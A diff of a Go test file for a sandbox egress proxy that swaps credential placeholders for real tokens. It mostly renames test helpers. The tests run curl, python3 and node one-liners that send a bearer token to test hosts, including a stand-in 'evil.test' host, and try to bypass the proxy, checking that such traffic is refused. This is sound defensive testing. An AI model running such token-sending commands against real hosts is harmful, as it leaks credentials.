@@ -8,8 +8,6 @@ import (
 	"fmt"
 	"net"
 	"net/http"
-	"os"
-	"os/exec"
 	"strings"
 	"testing"
 
@@ -17,44 +15,8 @@ import (
 	"github.com/parley-server/parley/internal/sandbox"
 )
 
-// inside is a sandbox in which nothing says that there is a proxy.
-type inside struct {
-	sandbox *sandbox.Sandbox
-	folder  string
-}
-
-// newInside opens a sandbox that has the programs. Where there can be none, the test is skipped.
-func newInside(t *testing.T, programs ...string) *inside {
-	t.Helper()
-	without := func(err error) {
-		if os.Getenv("PARLEY_TEST_REQUIRE") == "all" {
-			t.Fatal(err)
-		}
-		t.Skip(err)
-	}
-	for _, p := range programs {
-		if _, err := exec.LookPath("/usr/bin/" + p); err != nil {
-			without(err)
-		}
-	}
-	s, err := sandbox.Open(t.Context(), sandbox.Config{UID: 64003, Transparent: true})
-	if err != nil {
-		without(err)
-	}
-	t.Cleanup(func() {
-		if err := s.Close(); err != nil {
-			t.Error(err)
-		}
-	})
-	folder, err := s.NewFolder("test")
-	if err != nil {
-		t.Fatal(err)
-	}
-	return &inside{s, folder}
-}
-
-// run returns what a script prints. KEY is the placeholder.
-func (s *inside) run(t *testing.T, r *egress.Run, script string) string {
+// unaware returns what a script prints that nothing tells of a proxy. KEY is the placeholder.
+func (s *shell) unaware(t *testing.T, r *egress.Run, script string) string {
 	t.Helper()
 	var out bytes.Buffer
 	res, err := s.sandbox.Run(t.Context(), sandbox.Command{
@@ -68,9 +30,9 @@ func (s *inside) run(t *testing.T, r *egress.Run, script string) string {
 	return out.String()
 }
 
-// unaware are programs that know of no proxy: they send the placeholder to a URL and
+// straight are programs that know of no proxy: they send the placeholder to a URL and
 // print the answer, or why there is none.
-var unaware = map[string]string{
+var straight = map[string]string{
 	"curl":    `curl -sS --noproxy '*' -H "Authorization: Bearer $KEY" %s 2>&1`,
 	"python3": `python3 -c 'import os, sys, urllib.request as u; print(u.urlopen(u.Request(sys.argv[1], headers={"Authorization": "Bearer " + os.environ["KEY"]})).read().decode())' %s 2>&1`,
 	"node":    `node -e 'fetch(process.argv[1], {headers: {Authorization: "Bearer " + process.env.KEY}}).then(a => a.text()).then(console.log, e => console.log(e.cause))' %s`,
@@ -79,18 +41,18 @@ var unaware = map[string]string{
 // TestProgramsWithoutAProxy has real programs reach what they may, and nothing else.
 func TestProgramsWithoutAProxy(t *testing.T) {
 	t.Parallel()
-	for program, script := range unaware {
+	for program, script := range straight {
 		t.Run(program, func(t *testing.T) {
 			t.Parallel()
-			s := newInside(t, program)
+			s := newShell(t, program)
 			w := newWorld(t, egress.Config{})
 			r := w.run(t, egress.RunConfig{Hosts: []string{"plain.test", "www.wild.test"}})
-			out := s.run(t, r, fmt.Sprintf(script, "https://api.test/me?a=b"))
+			out := s.unaware(t, r, fmt.Sprintf(script, "https://api.test/me?a=b"))
 			if got := w.last(t); got.header.Get("Authorization") != "Bearer "+value || got.uri != "/me?a=b" || got.host != "api.test" || !strings.Contains(out, "Bearer "+mark) {
 				t.Errorf("api.test was sent %+v: %s", got, out)
 			}
 			for url, site := range map[string]string{"https://www.wild.test/": "www.wild.test", "http://plain.test/": "http://plain.test"} {
-				s.run(t, r, fmt.Sprintf(script, url))
+				s.unaware(t, r, fmt.Sprintf(script, url))
 				if got := w.last(t); got.site != site || got.header.Get("Authorization") != "Bearer "+holder {
 					t.Errorf("%s was sent %+v", url, got)
 				}
@@ -98,7 +60,7 @@ func TestProgramsWithoutAProxy(t *testing.T) {
 			if len(w.noted()) != 3 || w.noted()[0].final != egress.Sent || len(w.noted()[0].Credentials) != 1 || len(w.noted()[2].Refused) != 1 {
 				t.Errorf("recorded: %+v", w.noted())
 			}
-			out = s.run(t, r, fmt.Sprintf(script, "https://evil.test/"))
+			out = s.unaware(t, r, fmt.Sprintf(script, "https://evil.test/"))
 			if n := w.noted()[3]; len(w.arrivals()) != 3 || !strings.Contains(strings.ToLower(out), "not") || n.Host != "evil.test" || n.Method != "LOOKUP" || n.final != egress.RefusedHost {
 				t.Errorf("evil.test: %s, %+v", out, n)
 			}
@@ -109,12 +71,12 @@ func TestProgramsWithoutAProxy(t *testing.T) {
 // TestAttacksWithoutAProxy tries to come past the names.
 func TestAttacksWithoutAProxy(t *testing.T) {
 	t.Parallel()
-	s := newInside(t, "curl", "python3")
+	s := newShell(t, "curl", "python3")
 	w := newWorld(t, egress.Config{})
 	r := w.run(t, egress.RunConfig{Hosts: []string{"www.wild.test"}})
 	const auth = ` -sS --noproxy '*' --max-time 9 -H "Authorization: Bearer $KEY" `
 	// api.test is 127.1.0.1 then, and www.wild.test 127.1.0.2.
-	out := s.run(t, r, "curl"+auth+"https://api.test/ https://www.wild.test/")
+	out := s.unaware(t, r, "curl"+auth+"https://api.test/ https://www.wild.test/")
 	if len(w.arrivals()) != 2 {
 		t.Fatalf("%+v: %s", w.arrivals(), out)
 	}
@@ -167,7 +129,7 @@ except OSError as e:
     print(e)
 '`: "[Errno 101] Network is unreachable\n[Errno 101] Network is unreachable\n[Errno 101] Network is unreachable\n[Errno 101] Network is unreachable\n[Errno 111] Connection refused\n[Errno 13] Permission denied",
 	} {
-		if out := s.run(t, r, script+" 2>&1"); !strings.Contains(out, want) {
+		if out := s.unaware(t, r, script+" 2>&1"); !strings.Contains(out, want) {
 			t.Errorf("%s: %s", script, out)
 		}
 	}
